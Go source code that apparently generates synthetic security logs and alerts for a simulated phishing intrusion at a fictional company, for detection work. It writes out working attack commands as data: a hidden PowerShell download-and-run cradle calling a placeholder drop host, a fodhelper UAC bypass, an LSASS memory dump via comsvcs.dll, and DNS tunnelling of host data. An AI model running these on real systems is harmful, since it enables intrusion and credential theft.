package main

import (
	"encoding/hex"
	"fmt"
	"time"
)

const (
	powershell = sys32 + `WindowsPowerShell\v1.0\powershell.exe`
	lure       = "Freight_Adjustment_0226.xlsm"
	loader     = `C:\Users\m.lindqvist\AppData\Local\Temp\uxcache.dll`
	psAgent    = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.4391"
	freight    = "intrusion"
)

var (
	sigC2 = signature{9000114, 3, "LOCAL MALWARE TLS client fingerprint of loader family, destination first seen today", classC2, 1, "Major", []string{"T1071.001"}}
	r10   = "C=US, O=Example Trust Services, CN=EX R10"
)

// phish is the first hour: a mail, a workbook, a download cradle, a foothold.
func (g *generator) phish() {
	g.tells(freight, "phishing", "T1566.001")
	mail := g.roots["outlook"]
	sheet := `C:\Users\m.lindqvist\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1ZD\` + lure
	g.wrote(mail, at("09:11:48.207"), sheet)
	g.mailAlert(at("08:54:10"))
	g.tells(freight, "phishing", "T1204.002")
	excel := g.run(mail, "09:12:05", `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`,
		`"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "`+sheet+`"`)

	g.tells(freight, "execution", "T1059.001")
	script := `$p="$env:TEMP\uxcache.dll";iwr -UseBasicParsing -Uri http://` + dropName + `/assets/ui.png -OutFile $p;Start-Process rundll32.exe -ArgumentList "$p,Start"`
	ps := g.run(excel, "09:12:31", powershell, "powershell.exe -nop -w hidden -ep bypass -enc "+encoded(script))
	g.created(ps)
	g.script(finWS, ps.start.Add(1400*time.Millisecond), script, "warning")
	g.wazuhWindows(finWS, ps.start, wazuhRule{14, "92009", "Office application started a PowerShell process with an encoded command", []string{"sysmon", "sysmon_eid1_detections", "windows"},
		[]technique{tSpear, tShell}}, sysmonName, sysmonChannel, 1, startData(ps))
	g.defender(defenderAlert{title: "Suspicious PowerShell command line", severity: "medium", category: "Execution",
		text:   "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.",
		source: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", mitre: []technique{tShell}, seen: ps.start,
		evidence: L{deviceEvidence(finWS, lindqv, ps.start), processEvidence(ps, "suspicious", "detected"), userEvidence(lindqv, ps.start)}})
	g.elastic(elasticAlert{rule: "Suspicious MS Office Child Process", severity: "medium", risk: 47, proc: ps, seen: ps.start, mitre: []technique{tSpear, tShell},
		reason: "process event with process powershell.exe, parent process EXCEL.EXE, by m.lindqvist on fin-ws-014 created medium alert Suspicious MS Office Child Process."})
	g.download(ps)

	g.tells(freight, "execution", "T1218.011")
	implant := g.run(ps, "09:12:39", sys32+"rundll32.exe", `"C:\WINDOWS\system32\rundll32.exe" `+loader+`,Start`)
	g.roots["implant"] = implant
	g.tells(freight, "persistence", "T1547.001")
	run := "HKU\\" + lindqv.sid + `\Software\Microsoft\Windows\CurrentVersion\Run\UxCacheSync`
	g.setValue(implant, at("09:14:02.610"), run, "rundll32.exe "+loader+",Start")
	g.elastic(elasticAlert{rule: "Startup or Run Key Registry Modification", severity: "low", risk: 21, proc: implant, seen: at("09:14:02.610"), mitre: []technique{tRunKey},
		reason:   "registry event with process rundll32.exe by m.lindqvist on fin-ws-014 created low alert Startup or Run Key Registry Modification.",
		category: "registry",
		extra:    O{"registry", O{"path", run, "value", "UxCacheSync", "data", O{"strings", L{"rundll32.exe " + loader + ",Start"}}}}})
	g.beacons(implant)
	g.tunnel(implant)
	g.benign()
}

func (g *generator) mailAlert(seen time.Time) {
	from := "billing@" + mailName
	sender := O{"emailAddress", from, "displayName", "Nordkap Freight Billing", "domainName", mailName}
	_, sha1, sha256, _ := fileHashes(lure)
	g.defender(defenderAlert{title: "Email messages containing malicious file removed after delivery", severity: "informational", category: "InitialAccess",
		text:   "Emails with malicious file that were delivered and later removed from the mailboxes of 3 recipients.",
		source: "microsoftDefenderForOffice365", detection: "microsoftDefenderForOffice365", mitre: []technique{tSpear}, seen: seen, made: at("09:47:31.204"),
		evidence: L{evidence("analyzedMessageEvidence", seen, "malicious", "remediated", L{}, O{"networkMessageId", uuid("lure"), "internetMessageId", "<9f31c2.0226@" + mailName + ">",
			"subject", "Freight adjustment February - please confirm", "language", "en", "senderIp", "198.51.100.90", "recipientEmailAddress", "m.lindqvist@tarnholm.example",
			"deliveryAction", "Delivered", "deliveryLocation", "Inbox", "p1Sender", sender, "p2Sender", sender, "receivedDateTime", graphTime(seen), "attachmentsCount", 1, "urlCount", 0, "urls", L{}}),
			evidence("fileEvidence", seen, "malicious", "remediated", L{}, O{"detectionStatus", "detected", "mdeDeviceId", nil,
				"fileDetails", O{"sha1", sha1, "sha256", sha256, "fileName", lure, "filePath", nil, "fileSize", 88214, "filePublisher", nil, "signer", nil, "issuer", nil}}),
			userEvidence(lindqv, seen)}})
}

// download is the cradle's request, seen by endpoint, sensor, proxy and firewall.
func (g *generator) download(ps *proc) {
	g.tells(freight, "execution", "T1105")
	g.resolved(ps, at("09:12:33.190"), dropName, "::ffff:"+dropIP+";")
	f := g.connect(at("09:12:33.402"), finWS, dropIP, 80, "http", 2300*time.Millisecond, 214, 318_976)
	f.name = dropName
	g.connected(ps, f, true)
	g.conn(f)
	req := &request{dropName, "/assets/ui.png", psAgent, "GET", "image/png", "", 200, 318464}
	g.eveHTTP(f, at("09:12:34.050"), req)
	g.flagged(f, at("09:12:33.655"), signature{2033355, 2, "ET INFO Windows Powershell User-Agent Usage", classMisc, 3, "Informational", []string{"T1059.001"}}, "allowed", req)
	g.flagged(f, at("09:12:34.012"), signature{2018959, 5, "ET INFO PE EXE or DLL Windows file download HTTP", classPrivacy, 1, "Informational", []string{"T1105"}}, "allowed", req)
	g.visited(f, visit{"m.lindqvist@tarnholm.example", dropName + "/assets/ui.png", psAgent, "GET", 200, "Allowed", "Allowed", "Newly Registered and Observed Domains",
		"User-Defined", "", 72, "General Browsing", "exe"})
	g.traffic(f, policy{"allow-web", "web-browsing", "newly-registered-domain", "allow", "users", "untrust", ntDomain + `\m.lindqvist`})
	g.wrote(ps, at("09:12:36.871"), loader)
	g.wazuhWindows(finWS, at("09:12:36.871"), wazuhRule{15, "92213", "Executable file dropped in folder commonly used by malware", []string{"sysmon", "sysmon_eid11_detections", "windows"},
		[]technique{tTransfer}}, sysmonName, sysmonChannel, 11, O{"ProcessGuid", ps.guid(), "ProcessId", fmt.Sprint(ps.pid), "Image", ps.image, "TargetFilename", loader,
		"CreationUtcTime", utcTime(at("09:12:36.871")), "User", ps.user.account()})
}

// beacons are the implant's calls home, about one an hour until the evening.
func (g *generator) beacons(p *proc) {
	g.tells(freight, "command-and-control", "T1071.001")
	g.resolved(p, at("09:15:08.770"), c2Name, "::ffff:"+c2IP+";")
	clocks := []string{"09:15:08.911", "10:03:40.352", "11:01:17.040", "11:58:02.667", "12:51:33.208", "13:49:51.930", "14:44:06.115", "15:38:29.504", "16:35:12.881", "17:29:44.019"}
	for i, clock := range clocks {
		f := g.connect(at(clock), finWS, c2IP, 443, "ssl", time.Duration(g.between(2, 40))*time.Second, int64(g.between(900, 9000)), int64(g.between(1200, 40000)))
		f.name = c2Name
		g.conn(f)
		if i%3 == 0 {
			g.connected(p, f, true)
			g.eveTLS(f, r10, "loader")
			g.visited(f, visit{"m.lindqvist@tarnholm.example", c2Name, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0", "CONNECT", 200, "Allowed", "Allowed",
				"Newly Registered and Observed Domains", "User-Defined", "", 58, "General Browsing", "None"})
		}
		if i == 0 || i == 4 {
			g.flagged(f, f.start.Add(92*time.Millisecond), sigC2, "allowed", O{"tls", tlsObject(f, r10, "loader")})
			g.traffic(f, policy{"allow-web", "ssl", "newly-registered-domain", "allow", "users", "untrust", ntDomain + `\m.lindqvist`})
		}
	}
}

// tunnel is the implant's second way home: TXT queries through the own resolver.
func (g *generator) tunnel(p *proc) {
	g.tells(freight, "command-and-control", "T1071.004")
	for i, clock := range []string{"09:18:20.115", "10:48:21.409", "12:18:19.870"} {
		name := hex.EncodeToString([]byte(fmt.Sprintf("%02d|FIN-WS-014|m.lindqvist", i))) + ".t." + tunnelName
		f := g.connect(at(clock), finWS, dc, 53, "dns", 21*time.Millisecond, int64(len(name)+18), 241)
		g.asked(f, name, "TXT")
		if i == 0 {
			g.resolved(p, f.start, name, "type:  16 ;")
			g.conn(f)
		}
		if i == 1 {
			g.flagged(f, f.start.Add(time.Millisecond), signature{9000120, 1, "LOCAL DNS Long hexadecimal label in TXT query", classBad, 2, "Minor", []string{"T1071.004"}}, "allowed",
				O{"dns", O{"query", L{g.question(name, "TXT")}}})
		}
	}
}

// discovery is how the intruder learns where he is.
func (g *generator) discovery() {
	p := g.roots["implant"]
	for _, c := range []struct{ technique, clock, image, cmd string }{
		{"T1033", "09:31:10", "whoami.exe", "whoami /all"},
		{"T1082", "09:31:52", "systeminfo.exe", "systeminfo"},
		{"T1482", "09:32:40", "nltest.exe", "nltest /domain_trusts /all_trusts"},
		{"T1018", "09:33:15", "nltest.exe", "nltest /dclist:" + domain},
		{"T1135", "09:35:58", "net.exe", `net view \\fs01 /all`},
	} {
		g.tells(freight, "discovery", c.technique)
		child := g.run(p, c.clock, sys32+c.image, c.cmd)
		if c.technique == "T1033" {
			g.created(child)
		}
	}
	g.tells(freight, "discovery", "T1069.002")
	net := g.run(p, "09:34:20", sys32+"net.exe", `net group "Domain Admins" /domain`)
	g.run(net, "09:34:20.9", sys32+"net1.exe", sys32+`net1 group "Domain Admins" /domain`)
	g.wazuhWindows(finWS, net.start, wazuhRule{3, "92031", "Discovery activity executed", []string{"sysmon", "sysmon_eid1_detections", "windows"},
		[]technique{{"T1087", "Account Discovery", "TA0007", "Discovery"}}}, sysmonName, sysmonChannel, 1, startData(net))
	g.benign()
}

// credentials is the way to the first administrator: past UAC into LSASS, then
// service tickets to crack at leisure.
func (g *generator) credentials() {
	p := g.roots["implant"]
	g.tells(freight, "privilege-escalation", "T1548.002")
	key := "HKU\\" + lindqv.sid + `_Classes\ms-settings\shell\open\command\`
	g.setValue(p, at("10:02:11.430"), key+"(Default)", "rundll32.exe "+loader+",Start")
	g.setValue(p, at("10:02:11.512"), key+"DelegateExecute", "(Empty)")
	helper := g.spawn(p, at("10:02:14.008"), sys32+"fodhelper.exe", `"C:\Windows\System32\fodhelper.exe"`)
	helper.level = high
	g.started(helper)
	strong := g.run(helper, "10:02:15.2", sys32+"rundll32.exe", "rundll32.exe "+loader+",Start")

	g.tells(freight, "credential-access", "T1003.001")
	lsass := g.lsass(finWS)
	dump := `C:\Windows\Temp\rpt7A.dmp`
	tool := g.run(strong, "10:07:02", sys32+"rundll32.exe", fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, lsass.pid, dump))
	g.created(tool)
	g.opened(tool, lsass, tool.start.Add(84*time.Millisecond), "0x1FFFFF",
		`C:\Windows\SYSTEM32\ntdll.dll+9f2e4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+2a4c1|C:\Windows\System32\rundll32.exe+3b5f`)
	g.wrote(tool, tool.start.Add(96*time.Millisecond), dump)
	g.defender(defenderAlert{title: "Suspicious access to LSASS service", severity: "high", category: "CredentialAccess",
		text:   "The Local Security Authority Subsystem Service was accessed by a process that does not usually read its memory.",
		source: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", mitre: []technique{tLSASS}, seen: tool.start,
		evidence: L{deviceEvidence(finWS, lindqv, tool.start), processEvidence(tool, "malicious", "detected"), fileEvidence(finWS, dump, tool.start, "malicious", "detected", "none"), userEvidence(lindqv, tool.start)}})
	g.elastic(elasticAlert{rule: "Potential Credential Access via Windows Utilities", severity: "high", risk: 73, proc: tool, seen: tool.start, mitre: []technique{tLSASS},
		reason: "process event with process rundll32.exe, parent process rundll32.exe, by m.lindqvist on fin-ws-014 created high alert Potential Credential Access via Windows Utilities."})
	g.wazuhWindows(finWS, tool.start, wazuhRule{12, "92033", "LSASS process memory was dumped with a system library", []string{"sysmon", "sysmon_eid1_detections", "windows"}, []technique{tLSASS}},
		sysmonName, sysmonChannel, 1, startData(tool))

	g.tells(freight, "credential-access", "T1558.003")
	for i, s := range []*user{svcSQL, svcBkp, svcRpt} {
		g.ticket(lindqv, finWS, at("10:41:17.204").Add(time.Duration(i)*340*time.Millisecond), s.name, s.sid, "0x40810010", "0x17")
	}
	g.notable(at("10:45:00"), notable{rule: "Access - Kerberoasting Spn Request With RC4 Encryption - Rule", title: "Kerberoasting by m.lindqvist from 10.20.10.114", domain: "access", urgency: "high",
		text: "3 service tickets with RC4 encryption were requested within 2 seconds", src: finWS.ip, dest: dc.name, user: lindqv.name, signature: "4769",
		mitre: []technique{tRoast}, risk: 72, sourcetype: "XmlWinEventLog"})
	g.benign()
}
